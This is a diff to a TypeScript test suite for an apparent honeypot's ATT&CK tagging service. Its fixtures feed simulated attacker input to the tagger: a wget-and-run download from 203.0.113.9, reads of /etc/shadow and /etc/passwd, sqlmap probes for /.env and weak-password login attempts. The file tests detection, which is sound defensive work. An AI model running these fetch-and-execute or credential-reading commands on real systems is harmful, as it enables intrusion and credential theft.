@@ -4,7 +4,7 @@
 import { copyFileSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { MemoryBroker, type Bus } from '@decnet/core';
+import { EVENTS, MemoryBroker, type Bus } from '@decnet/core';
 import { eventually } from '@decnet/core/testing';
 import { attacker_identities, attacker_intel, attackers, credentials, getState, state, ttp_rule_state, ttp_tag, type Database } from '@decnet/db';
 import { countRows, insertRows, migratedScratchDatabase, tableRows, truncateTables, updateRows, type TableColumn } from '@decnet/db/testing';
@@ -63,7 +63,7 @@ describe('session commands become tags once, announced only when inserted', () =
   it('tags a download-and-execute session with T1105 and T1059, and replays insert nothing', async () => {
     const { bus, ttp } = await start();
     const payload = session(['cd /tmp', 'wget http://203.0.113.9/x.sh -O /tmp/x.sh', '/bin/sh -c /tmp/x.sh']);
-    await bus.publish('attacker.session.ended', payload);
+    await bus.publish(EVENTS.attackerSessionEnded.subject, payload);
     await eventually(async () => (await count()) === 3, 10_000);
     const rows = await tags([ttp_tag.rule_id]);
     expect(rows.map((r) => `${r.rule_id}:${r.sub_technique_id ?? r.technique_id}`)).toEqual(['R0010:T1059.004', 'R0011:T1059', 'R0012:T1105']);
@@ -74,11 +74,11 @@ describe('session commands become tags once, announced only when inserted', () =
       expect.objectContaining({ attacker_uuid: ATTACKER, session_id: 'sess-1', techniques_added: ['T1059'] }),
     ]);
     const fired = await ttp.fired.waitFor(2);
-    expect(fired.map((e) => e.topic).sort()).toEqual(['ttp.rule.fired.T1059', 'ttp.rule.fired.T1105']);
+    expect(fired.map((e) => e.topic).sort()).toEqual([EVENTS.ttpRuleFired.subject('T1059'), EVENTS.ttpRuleFired.subject('T1105')]);
     expect(fired.find((e) => e.topic.endsWith('T1059'))?.payload.tag_uuids).toHaveLength(2);
 
     const published = ttp.tagged.events.length + ttp.fired.events.length;
-    await bus.publish('attacker.session.ended', payload);
+    await bus.publish(EVENTS.attackerSessionEnded.subject, payload);
     await eventually(async () => ((await ttp.health()).events as number) >= 2, 10_000);
     expect(await count()).toBe(3);
     expect(ttp.tagged.events.length + ttp.fired.events.length).toBe(published);
@@ -87,9 +87,9 @@ describe('session commands become tags once, announced only when inserted', () =
 
   it('tags a command seen live on log.event.* once, even when the session replays it', async () => {
     const { bus, ttp } = await start();
-    await bus.publish('log.event.ssh', logEvent({ event_type: 'command', time: '2026-05-02T06:00:10.000Z', fields: { cmd: 'cat /etc/shadow', user: 'root', sid: 'sess-1' } }));
+    await bus.publish(EVENTS.logEvent.subject('ssh'), logEvent({ event_type: 'command', time: '2026-05-02T06:00:10.000Z', fields: { cmd: 'cat /etc/shadow', user: 'root', sid: 'sess-1' } }));
     await eventually(async () => (await count()) === 1, 10_000);
-    await bus.publish('attacker.session.ended', session(['cat /etc/shadow']));
+    await bus.publish(EVENTS.attackerSessionEnded.subject, session(['cat /etc/shadow']));
     await eventually(async () => ((await ttp.health()).events as number) >= 2, 10_000);
     expect(await count()).toBe(1);
     const [row] = await tags();
@@ -102,7 +102,7 @@ describe('log events fill upstream\'s producer gap for HTTP requests and auth at
   it('tags scanner user agents and credential-file requests, folding an attacker\'s requests per window', async () => {
     const { bus } = await start();
     for (let i = 0; i < 5; i++) {
-      await bus.publish('log.event.http', logEvent({ service: 'http', event_type: 'request', fields: { method: 'GET', path: `/.env?i=${i}`, user_agent: 'sqlmap/1.7.2#stable (https://sqlmap.org)' } }));
+      await bus.publish(EVENTS.logEvent.subject('http'), logEvent({ service: 'http', event_type: 'request', fields: { method: 'GET', path: `/.env?i=${i}`, user_agent: 'sqlmap/1.7.2#stable (https://sqlmap.org)' } }));
     }
     await eventually(async () => (await count()) === 3, 10_000);
     expect((await tags([ttp_tag.rule_id, ttp_tag.technique_id])).map((r) => `${r.source_kind}:${r.rule_id}`)).toEqual([
@@ -116,8 +116,8 @@ describe('log events fill upstream\'s producer gap for HTTP requests and auth at
     const { bus } = await start();
     const auth = (password: string, outcome: string, s: number) =>
       logEvent({ event_type: 'auth_attempt', time: `2026-05-02T06:00:${String(s).padStart(2, '0')}.000Z`, fields: { username: 'root', principal: 'root', secret_printable: password, secret_b64: Buffer.from(password).toString('base64'), outcome } });
-    for (const [i, pw] of ['123456', 'password', 'admin', 'toor', 'qwerty'].entries()) await bus.publish('log.event.ssh', auth(pw, 'failure', i));
-    await bus.publish('log.event.ssh', auth('root', 'success', 10));
+    for (const [i, pw] of ['123456', 'password', 'admin', 'toor', 'qwerty'].entries()) await bus.publish(EVENTS.logEvent.subject('ssh'), auth(pw, 'failure', i));
+    await bus.publish(EVENTS.logEvent.subject('ssh'), auth('root', 'success', 10));
     await eventually(async () => (await count()) === 4, 10_000);
     const rows = (await tags([ttp_tag.rule_id])).map((r) => ({ rule_id: r.rule_id, evidence: r.evidence as Record<string, unknown> }));
     expect(rows.map((r) => r.rule_id)).toEqual(['R0001', 'R0002', 'R0005', 'R0006']);
@@ -129,11 +129,11 @@ describe('log events fill upstream\'s producer gap for HTTP requests and auth at
 describe('tags wait for their attacker instead of being dropped', () => {
   it('writes the tags once the profiler creates the attacker, woken by attacker.scored', async () => {
     const { bus, ttp } = await start({ pendingRetryMs: 60_000 });
-    await bus.publish('log.event.ssh', logEvent({ event_type: 'command', attacker_ip: '203.0.113.50', fields: { cmd: 'uname -a' } }));
+    await bus.publish(EVENTS.logEvent.subject('ssh'), logEvent({ event_type: 'command', attacker_ip: '203.0.113.50', fields: { cmd: 'uname -a' } }));
     await eventually(async () => ((await ttp.health()).pending as number) === 1, 10_000);
     expect(await count()).toBe(0);
     await insertRows(database, attackers, [{ uuid: OTHER, ip: '203.0.113.50' }]);
-    await bus.publish('attacker.scored', { attacker_ip: '203.0.113.50', event_count: 1 });
+    await bus.publish(EVENTS.attackerScored.subject, { attacker_ip: '203.0.113.50', event_count: 1 });
     await eventually(async () => (await count({ attacker_uuid: OTHER })) === 1, 10_000);
     await eventually(async () => {
       const detail = await ttp.health();
@@ -145,24 +145,35 @@ describe('tags wait for their attacker instead of being dropped', () => {
     const { bus, ttp } = await start({ pendingRetryMs: 60_000 });
     const ip = '203.0.113.52';
     const cmd = 'wget http://203.0.113.9/x.sh -O /tmp/x.sh';
-    await bus.publish('log.event.ssh', logEvent({ event_type: 'command', attacker_ip: ip, time: '2026-05-02T06:00:10.000Z', fields: { cmd, user: 'root', sid: 'sess-1' } }));
-    await bus.publish('attacker.session.ended', session([cmd], { attacker_ip: ip }));
+    await bus.publish(EVENTS.logEvent.subject('ssh'), logEvent({ event_type: 'command', attacker_ip: ip, time: '2026-05-02T06:00:10.000Z', fields: { cmd, user: 'root', sid: 'sess-1' } }));
+    await bus.publish(EVENTS.attackerSessionEnded.subject, session([cmd], { attacker_ip: ip }));
     // Both sources derive the same tag; both wait for the attacker, then go out in one write.
     await eventually(async () => ((await ttp.health()).pending as number) === 2, 10_000);
     await insertRows(database, attackers, [{ uuid: OTHER, ip }]);
-    await bus.publish('attacker.scored', { attacker_ip: ip, event_count: 2 });
+    await bus.publish(EVENTS.attackerScored.subject, { attacker_ip: ip, event_count: 2 });
     await eventually(async () => {
       const detail = await ttp.health();
       return detail.pending === 0 && detail.inserted === 1 && detail.published === 2;
     }, 10_000);
     expect(await count({ attacker_uuid: OTHER })).toBe(1);
     expect(ttp.tagged.events.map((e) => e.payload.techniques_added)).toEqual([['T1105']]);
-    expect(ttp.fired.events.map((e) => e.topic)).toEqual(['ttp.rule.fired.T1105']);
+    expect(ttp.fired.events.map((e) => e.topic)).toEqual([EVENTS.ttpRuleFired.subject('T1105')]);
+  });
+
+  it('keeps retrying waiting tags on its timer after an idle retry found nothing', async () => {
+    const { bus, ttp } = await start({ pendingRetryMs: 100 });
+    // Several retry ticks pass with nothing pending before the tag has to wait.
+    await new Promise((r) => setTimeout(r, 500));
+    await bus.publish(EVENTS.logEvent.subject('ssh'), logEvent({ event_type: 'command', attacker_ip: '203.0.113.53', fields: { cmd: 'cat /etc/shadow' } }));
+    await eventually(async () => ((await ttp.health()).pending as number) === 1, 10_000);
+    // The attacker appears without any wake-up event: only the timer can pick the tag up.
+    await insertRows(database, attackers, [{ uuid: OTHER, ip: '203.0.113.53' }]);
+    await eventually(async () => (await count({ attacker_uuid: OTHER })) === 1, 10_000);
   });
 
   it('keeps waiting tags across a graceful restart', async () => {
     const first = await start({ pendingRetryMs: 60_000 });
-    await first.bus.publish('log.event.ssh', logEvent({ event_type: 'command', attacker_ip: '203.0.113.51', fields: { cmd: 'whoami' } }));
+    await first.bus.publish(EVENTS.logEvent.subject('ssh'), logEvent({ event_type: 'command', attacker_ip: '203.0.113.51', fields: { cmd: 'whoami' } }));
     await eventually(async () => ((await first.ttp.health()).pending as number) === 1, 10_000);
     await first.ttp.runner.close();
     hosted = undefined;
@@ -179,12 +190,12 @@ describe('every upstream input is consumed', () => {
   it('tags intel, e-mail, canary, identity, credential reuse and IPv6 leaks, with the data file\'s ATT&CK release', async () => {
     await insertRows(database, attacker_identities, [{ uuid: '33333333-3333-4333-8333-333333333333' }]);
     const { bus } = await start();
-    await bus.publish('attacker.intel.enriched', { attacker_uuid: ATTACKER, attacker_ip: IP, abuseipdb_score: 95, abuseipdb_categories: [18, 22] });
-    await bus.publish('email.received', { attacker_uuid: ATTACKER, attacker_ip: IP, stored_as: 'm1.eml', from_domain: 'ceo.example', mail_from_domain: 'evil.example', rcpt_count: 12 });
-    await bus.publish('canary.tok1.triggered', { token_id: 'tok1', trigger_id: 'trg1', src_ip: IP, navigator_webdriver: true });
-    await bus.publish('identity.formed', { identity_uuid: '33333333-3333-4333-8333-333333333333', shared_password_hash: 'ab12', account_count: 4 });
-    await bus.publish('credential.reuse.detected', { id: 'reuse-1', secret_sha256: 'ab12', target_count: 3, attacker_uuids: [ATTACKER], attacker_ips: [IP] });
-    await bus.publish('attacker.fingerprinted', { attacker_ip: IP, addr: 'fe80::a00:27ff:fe4e:66a1', iid_kind: 'eui64', mac_oui: '08:00:27' }, { type: 'ipv6_leak' });
+    await bus.publish(EVENTS.attackerIntelEnriched.subject, { attacker_uuid: ATTACKER, attacker_ip: IP, abuseipdb_score: 95, abuseipdb_categories: [18, 22] });
+    await bus.publish(EVENTS.emailReceived.subject, { attacker_uuid: ATTACKER, attacker_ip: IP, stored_as: 'm1.eml', from_domain: 'ceo.example', mail_from_domain: 'evil.example', rcpt_count: 12 });
+    await bus.publish(EVENTS.canaryTriggered.subject('tok1'), { token_id: 'tok1', trigger_id: 'trg1', src_ip: IP, navigator_webdriver: true });
+    await bus.publish(EVENTS.identityFormed.subject, { identity_uuid: '33333333-3333-4333-8333-333333333333', shared_password_hash: 'ab12', account_count: 4 });
+    await bus.publish(EVENTS.credentialReuseDetected.subject, { id: 'reuse-1', secret_sha256: 'ab12', target_count: 3, attacker_uuids: [ATTACKER], attacker_ips: [IP] });
+    await bus.publish(EVENTS.attackerFingerprinted.subject, { attacker_ip: IP, addr: 'fe80::a00:27ff:fe4e:66a1', iid_kind: 'eui64', mac_oui: '08:00:27' }, { type: 'ipv6_leak' });
     const expected = ['credential:R0004', 'email:R0041', 'email:R0041', 'email:R0045', 'identity:R0003', 'intel:R0054', 'ipv6_leak:R0059', 'canary_fingerprint:R0049'].sort();
     await eventually(async () => (await count()) === expected.length, 10_000);
     const rows = await tags();
@@ -203,7 +214,7 @@ describe('every upstream input is consumed', () => {
       { uuid: 'i1', attacker_uuid: ATTACKER, attacker_ip: IP, feodo_listed: true, feodo_malware_family: 'Emotet', expires_at: new Date(Date.now() + 86_400_000) },
     ]);
     const { bus } = await start();
-    await bus.publish('attacker.session.ended', session([]));
+    await bus.publish(EVENTS.attackerSessionEnded.subject, session([]));
     await eventually(async () => (await count({ source_id: 'intel-catchup:sess-1' })) === 2, 10_000);
   });
 
@@ -215,7 +226,7 @@ describe('every upstream input is consumed', () => {
       await insertRows(database, credentials, [{ attacker_ip: IP, decky_name: 'decky-01', service: 'ssh', principal: user, principal_key: user, secret_sha256: 'aa11' }]);
     }
     const { bus } = await start();
-    await bus.publish('identity.formed', { identity_uuid: identity, observation_uuids: [] });
+    await bus.publish(EVENTS.identityFormed.subject, { identity_uuid: identity, observation_uuids: [] });
     await eventually(async () => (await count({ rule_id: 'R0003' })) === 1, 10_000);
     const [row] = (await tableRows(database, ttp_tag, { match: { rule_id: 'R0003' } })).map((t) => ({ evidence: t.evidence, attacker_uuid: t.attacker_uuid }));
     expect(row).toEqual({ evidence: { shared_password_hash: 'aa11', account_count: 3 }, attacker_uuid: null });
@@ -224,7 +235,7 @@ describe('every upstream input is consumed', () => {
   it('honours operator rule states: a disabled rule never fires', async () => {
     await insertRows(database, ttp_rule_state, [{ rule_id: 'R0014', state: 'disabled', set_by: 'test' }]);
     const { bus, ttp } = await start();
-    await bus.publish('attacker.session.ended', session(['cat /etc/shadow', 'cat /etc/passwd']));
+    await bus.publish(EVENTS.attackerSessionEnded.subject, session(['cat /etc/shadow', 'cat /etc/passwd']));
     await eventually(async () => (await count()) === 1, 10_000);
     await eventually(async () => ((await ttp.health()).events as number) >= 1, 10_000);
     expect((await tags())[0]?.rule_id).toBe('R0013');
@@ -234,11 +245,11 @@ describe('every upstream input is consumed', () => {
 describe('bad input is counted and skipped, never fatal', () => {
   it('skips malformed events and keeps tagging', async () => {
     const { bus, ttp } = await start();
-    await bus.publish('attacker.session.ended', { session_id: 'x' });
-    await bus.publish('log.event.ssh', { decky: 'd', service: 'ssh' });
-    await bus.publish('credential.reuse.detected', { id: 'r', attacker_uuids: 'nope' });
-    await bus.publish('identity.merged', { winner_uuid: 'not-a-uuid' });
-    await bus.publish('attacker.session.ended', session(['cat /etc/passwd']));
+    await bus.publish(EVENTS.attackerSessionEnded.subject, { session_id: 'x' });
+    await bus.publish(EVENTS.logEvent.subject('ssh'), { decky: 'd', service: 'ssh' });
+    await bus.publish(EVENTS.credentialReuseDetected.subject, { id: 'r', attacker_uuids: 'nope' });
+    await bus.publish(EVENTS.identityMerged.subject, { winner_uuid: 'not-a-uuid' });
+    await bus.publish(EVENTS.attackerSessionEnded.subject, session(['cat /etc/passwd']));
     await eventually(async () => (await count()) === 1, 10_000);
     await eventually(async () => ((await ttp.health()).malformed as number) === 4, 10_000);
     expect(ttp.runner.state).toBe('running');
@@ -246,7 +257,7 @@ describe('bad input is counted and skipped, never fatal', () => {
 
   it('stores attacker text Postgres cannot hold (NUL, lone surrogates) with replacement characters', async () => {
     const { bus } = await start();
-    await bus.publish('log.event.ssh', logEvent({ event_type: 'command', fields: { cmd: 'cat /etc/passwd \u0000\ud800', sid: 'x\u0000' } }));
+    await bus.publish(EVENTS.logEvent.subject('ssh'), logEvent({ event_type: 'command', fields: { cmd: 'cat /etc/passwd \u0000\ud800', sid: 'x\u0000' } }));
     await eventually(async () => (await count()) === 1, 10_000);
     const [row] = (await tags()).map((t) => ({ evidence: t.evidence as { command_text: string }, session_id: t.session_id }));
     expect(row?.evidence.command_text).toBe('cat /etc/passwd \uFFFD\uFFFD');
@@ -260,11 +271,11 @@ describe('bad input is counted and skipped, never fatal', () => {
       writeFileSync(join(dir, 'R0013.yaml'), 'rule_id: R0013\nrule_version: 1\nname: broken\napplies_to: [command]\nmatch:\n  pattern: "(a+)+$"\nemits: []\n');
       const { bus, ttp } = await start({ rulesDir: dir });
       expect(await ttp.health()).toMatchObject({ rules: 58, rulesRejected: 1 });
-      await bus.publish('attacker.session.ended', session(['cat /etc/shadow', 'cat /etc/passwd']));
+      await bus.publish(EVENTS.attackerSessionEnded.subject, session(['cat /etc/shadow', 'cat /etc/passwd']));
       await eventually(async () => (await count()) === 1, 10_000);
       copyFileSync(join(UPSTREAM_RULES_DIR, 'R0013.yaml'), join(dir, 'R0013.yaml'));
       await eventually(async () => ((await ttp.health()).rules as number) === 59, 10_000);
-      await bus.publish('attacker.session.ended', session(['cat /etc/passwd'], { session_id: 'sess-2' }));
+      await bus.publish(EVENTS.attackerSessionEnded.subject, session(['cat /etc/passwd'], { session_id: 'sess-2' }));
       await eventually(async () => (await count({ rule_id: 'R0013' })) === 1, 10_000);
     } finally {
       rmSync(dir, { recursive: true, force: true });
